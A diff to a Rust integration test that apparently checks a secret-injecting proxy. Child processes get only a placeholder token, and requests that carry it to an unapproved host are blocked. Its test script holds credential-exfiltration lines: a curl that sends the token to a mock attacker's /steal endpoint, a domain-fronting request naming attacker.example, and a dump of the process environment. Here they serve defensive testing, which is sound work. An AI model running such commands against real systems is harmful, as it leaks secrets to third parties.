@@ -83,9 +83,23 @@ fn https_api() -> (u16, String, Seen) {
                 let _ = s.set_read_timeout(Some(Duration::from_secs(20)));
                 let conn = rustls::ServerConnection::new(config).unwrap();
                 let mut tls = rustls::StreamOwned::new(conn, s);
-                let head = read_head(&mut tls);
+                let mut head = read_head(&mut tls);
                 if head.is_empty() {
                     return;
+                }
+                // A body, by Content-Length (the test's requests send no chunked bodies).
+                let len: usize = head
+                    .lines()
+                    .find_map(|l| {
+                        let (k, v) = l.split_once(':')?;
+                        k.eq_ignore_ascii_case("content-length")
+                            .then(|| v.trim().parse().ok())
+                            .flatten()
+                    })
+                    .unwrap_or(0);
+                let mut body = vec![0u8; len];
+                if tls.read_exact(&mut body).is_ok() {
+                    head.push_str(&String::from_utf8_lossy(&body));
                 }
                 let body = format!("ECHO:{}", authorization(&head));
                 seen.lock().unwrap().push(head);
@@ -114,7 +128,8 @@ fn attacker() -> (u16, Seen) {
             let _ = s.set_read_timeout(Some(Duration::from_secs(20)));
             let head = read_head(&mut s);
             seen2.lock().unwrap().push(head);
-            let _ = s.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok");
+            let _ =
+                s.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok");
         }
     });
     (port, seen)
@@ -171,17 +186,28 @@ fn a_bound_variable_reaches_its_host_and_the_child_holds_only_a_placeholder() {
     );
     // A binding needs the factor: without it nothing changes.
     let o = h.run_stdin(
-        &["policy", "set", "demo", "unbind", "API_TOKEN", "--passphrase-stdin"],
+        &[
+            "policy",
+            "set",
+            "demo",
+            "unbind",
+            "API_TOKEN",
+            "--passphrase-stdin",
+        ],
         "wrong passphrase\n",
     );
     assert!(!o.status.success());
-    assert!(h.ok(&["policy", "show", "demo"]).contains("bound: API_TOKEN"));
+    assert!(
+        h.ok(&["policy", "show", "demo"])
+            .contains("bound: API_TOKEN")
+    );
 
     let work = tempfile::tempdir_in("/tmp").unwrap();
     let script = format!(
         r#"printf 'ENV:%s\n' "$API_TOKEN" > seen.txt
 tr '\0' '\n' < /proc/$$/environ > environ.txt
 curl -sS --max-time 20 -H "Authorization: Bearer $API_TOKEN" https://localhost:{api}/v1/me > curl.txt 2>&1
+curl -sS --max-time 20 -H "Content-Type: application/json" -d "{{\"api_key\": \"$API_TOKEN\"}}" https://localhost:{api}/v1/json > json.txt 2>&1
 curl -sS --max-time 20 -H "X-Key: $API_TOKEN" http://127.0.0.1:{att}/steal > attacker.txt 2>&1
 curl -sS --max-time 20 -H "Host: attacker.example" -H "Authorization: Bearer $API_TOKEN" https://localhost:{api}/fronted > fronted.txt 2>&1
 python3 - > python.txt 2>&1 <<'PY'
@@ -219,17 +245,30 @@ echo done"#
     assert!(placeholder.starts_with("sk-proj-"));
     assert_ne!(placeholder, value);
     let environ = read("environ.txt");
-    assert!(environ.contains(&format!("API_TOKEN={placeholder}")), "{environ}");
+    assert!(
+        environ.contains(&format!("API_TOKEN={placeholder}")),
+        "{environ}"
+    );
     assert!(!environ.contains(&value));
-    assert!(environ.contains("HTTPS_PROXY=http://127.0.0.1:"), "{environ}");
+    assert!(
+        environ.contains("HTTPS_PROXY=http://127.0.0.1:"),
+        "{environ}"
+    );
 
     // The API received the value, from curl and from Python; the echo came back as the
     // placeholder.
     let heads = api_seen.lock().unwrap().clone();
-    assert_eq!(heads.len(), 2, "{heads:?}");
-    for head in &heads {
+    assert_eq!(heads.len(), 3, "{heads:?}");
+    let (json, auth): (Vec<_>, Vec<_>) = heads.iter().partition(|h| h.contains("/v1/json"));
+    for head in &auth {
         assert_eq!(authorization(head), format!("Bearer {value}"));
     }
+    // A JSON body carried the placeholder: the API got the value in it.
+    assert!(
+        json[0].ends_with(&format!("{{\"api_key\": \"{value}\"}}")),
+        "the JSON body holds the value"
+    );
+    assert!(!json[0].contains(&placeholder));
     for f in ["curl.txt", "python.txt"] {
         let got = read(f);
         assert!(
@@ -240,11 +279,23 @@ echo done"#
     }
 
     // A request through the API's tunnel that names another host (domain fronting) was
-    // blocked before it reached the API (it saw two requests only, above).
-    assert!(read("fronted.txt").contains("blocked"), "{}", read("fronted.txt"));
+    // blocked before it reached the API (it saw three requests only, above).
+    assert!(
+        read("fronted.txt").contains("blocked"),
+        "{}",
+        read("fronted.txt")
+    );
     // The attacker got nothing: the request was blocked and reported.
-    assert!(att_seen.lock().unwrap().is_empty(), "{:?}", att_seen.lock().unwrap());
-    assert!(read("attacker.txt").contains("blocked"), "{}", read("attacker.txt"));
+    assert!(
+        att_seen.lock().unwrap().is_empty(),
+        "{:?}",
+        att_seen.lock().unwrap()
+    );
+    assert!(
+        read("attacker.txt").contains("blocked"),
+        "{}",
+        read("attacker.txt")
+    );
     assert!(
         err.contains("API_TOKEN") && err.contains(&format!("http://127.0.0.1:{att}")),
         "the blocked placeholder is reported: {err}"
@@ -256,7 +307,10 @@ echo done"#
     assert!(audit.contains("\"egress_blocked\""), "{audit}");
     assert!(!audit.contains(&placeholder));
     for enc in encodings(&value) {
-        assert!(!contains(&h.all_plain_files(), &enc), "a form of the value is in the home");
+        assert!(
+            !contains(&h.all_plain_files(), &enc),
+            "a form of the value is in the home"
+        );
     }
     assert!(!contains(&o.stdout, &value) && !contains(&o.stderr, &value));
 }
